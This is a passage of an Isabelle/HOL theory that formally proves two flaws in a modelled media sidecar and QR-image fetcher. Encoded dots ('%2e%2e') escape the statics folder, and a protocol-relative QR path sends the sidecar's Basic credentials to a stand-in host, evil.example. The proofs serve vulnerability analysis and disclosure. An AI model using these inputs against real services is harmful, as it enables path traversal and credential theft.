      by (auto simp: map_eq_append_conv append_eq_map_conv)
    have "?f c = c" if "c \<in> set w'" for c
    proof -
      have "?f c \<in> set (map ?f w')" using that by auto
      then have "?f c = 46" unfolding u(2) by (simp add: lit_def)
      then show ?thesis by (simp split: if_splits)
    qed
    then have "w' = map ?f w'" by (simp add: map_idI)
    then have "w' = lit ''..''" using u(2) by simp
    with u(1) have "rel = (lit ''statics/'' @ a') @ lit ''..'' @ (b' @ z)" by (simp add: t z)
    with r(2) occurs_append [of "lit ''..''" "lit ''statics/'' @ a'" "b' @ z"] show False by simp
  qed
  with path_walk_keeps [of "split_on 47 (map ?f u)" "[lit ''statics'', lit ''app'']"] walk show ?thesis by auto
qed

theorem media_ref_stays_in_statics_witness:
  "\<exists>ss. served_path (lit ''app/'' @ lit ''statics/media/1.jpg'') = lit ''app'' # lit ''statics'' # ss"
  by (rule media_ref_stays_in_statics [of "lit ''/statics/media/1.jpg''"])
    (simp_all add: media_ref_def lit_def starts_with_rec)

text \<open>
  The check of a reference can be passed by encoding the dots: such a reference reaches the
  sidecar's other routes, and what they answer is taken for the file.
\<close>

theorem encoded_dots_leave_statics:
  "media_ref (lit ''statics/%2e%2e/devices'') = Some (lit ''statics/%2e%2e/devices'')
   \<and> served_path (lit ''app/'' @ lit ''statics/%2e%2e/devices'') = [lit ''app'', lit ''devices'']"
  by (simp add: media_ref_def served_path_def url_clean_def path_text_def lit_def starts_with_rec double_dot_def single_dot_def lower_cp_def)

section \<open>Where a QR address leads\<close>

text \<open>
  The check of a QR address, that it names the sidecar's host, can be passed by an address
  whose path begins with two slashes: the request, with the sidecar's user name and password,
  goes to the host that the path names.
\<close>

lemmas url_evaluation = parse_url_def url_clean_def js_trim_def js_space_def lower_cp_def starts_with_rec slash_like_def
  authority_parts_def default_port_def is_digit_def served_path_def path_text_def double_dot_def single_dot_def

lemma qr_address_parts:
  "parse_url (lit ''http://gwmd:3000'') = Some \<lparr>up_scheme = lit ''http'', up_host = lit ''gwmd:3000'', up_hostname = lit ''gwmd'',
     up_pathname = lit ''/'', up_search = []\<rparr>"
  "parse_url (lit ''http://gwmd//evil.example/qr'') = Some \<lparr>up_scheme = lit ''http'', up_host = lit ''gwmd'', up_hostname = lit ''gwmd'',
     up_pathname = lit ''//evil.example/qr'', up_search = []\<rparr>"
  by (simp_all add: url_evaluation lit_def Let_def)

lemma qr_address_target:
  "qr_image_url (lit ''http://gwmd:3000'') (lit ''http://gwmd//evil.example/qr'') = Inr (lit ''http://evil.example/qr'')"
proof -
  have "resolve_url (lit ''//evil.example/qr'') u = up_scheme u @ lit ''://evil.example/qr''" for u
    by (simp add: resolve_url_def starts_with_rec lit_def)
  then show ?thesis by (simp add: qr_image_url_def qr_address_parts) (simp add: lit_def)
qed

theorem qr_address_leaves_host:
  assumes "gwmd_baseUrl env acc = Inr (lit ''http://gwmd:3000'')"
    and "ch_fetch env (get_request (lit ''http://evil.example/qr'') (auth_only env acc)) = Inr r" "response_ok (hr_status r)"
  shows "gwmd_fetchImage env acc (lit ''http://gwmd//evil.example/qr'') = Inr (hr_bytes r)"
  using assms by (simp add: gwmd_fetchImage_def qr_address_target)

definition gwmd_login_config :: account_config where
  "gwmd_login_config = \<lparr>cc_id = lit ''a'', cc_adapter = lit ''gwmd'', cc_config = JObj [(lit ''baseUrl'', JStr (lit ''http://gwmd:3000'')),
     (lit ''username'', JStr (lit ''u'')), (lit ''password'', JStr (lit ''p''))]\<rparr>"

theorem qr_address_leaves_host_witness:
  "gwmd_fetchImage (plain_channel (\<lambda>q. if hq_url q = lit ''http://evil.example/qr'' \<and> hq_headers q = [(''authorization'', lit ''Basic dTpw'')]
       then Inr \<lparr>hr_status = 200, hr_json = None, hr_text = [], hr_bytes = [1],
      hr_type = None\<rparr> else Inl []))
     gwmd_login_config (lit ''http://gwmd//evil.example/qr'') = Inr [1]"
proof -
  let ?env = "plain_channel (\<lambda>q. if hq_url q = lit ''http://evil.example/qr'' \<and> hq_headers q = [(''authorization'', lit ''Basic dTpw'')]
       then Inr \<lparr>hr_status = 200, hr_json = None, hr_text = [], hr_bytes = [1],
      hr_type = None\<rparr> else Inl [])"
  have "utf8_bytes (lit ''u:p'') = [117, 58, 112]" by (simp add: utf8_bytes_def utf8_def lit_def)
  moreover have "base64 [117, 58, 112] = lit ''dTpw''" by (simp add: base64_digit_def lit_def)
  moreover have "lit ''u'' @ lit '':'' @ lit ''p'' = lit ''u:p''" "lit ''Basic '' @ lit ''dTpw'' = lit ''Basic dTpw''" by (simp_all add: lit_def)
  ultimately have "auth_only ?env gwmd_login_config = [(''authorization'', lit ''Basic dTpw'')]"
    by (simp add: auth_only_def authHeader_def config_text_def gwmd_login_config_def text_or_empty_def js_String_def Let_def)
  moreover have "gwmd_baseUrl ?env gwmd_login_config = Inr (lit ''http://gwmd:3000'')"
    by (simp add: gwmd_baseUrl_def base_url_def config_text_def gwmd_login_config_def text_or_empty_def js_String_def strip_slash_def Let_def)
      (simp add: lit_def)
  ultimately show ?thesis
    using qr_address_leaves_host [of ?env gwmd_login_config "\<lparr>hr_status = 200, hr_json = None, hr_text = [],
      hr_bytes = [1], hr_type = None\<rparr>"]
    by (simp add: plain_channel_def get_request_def response_ok_def)
qed

end
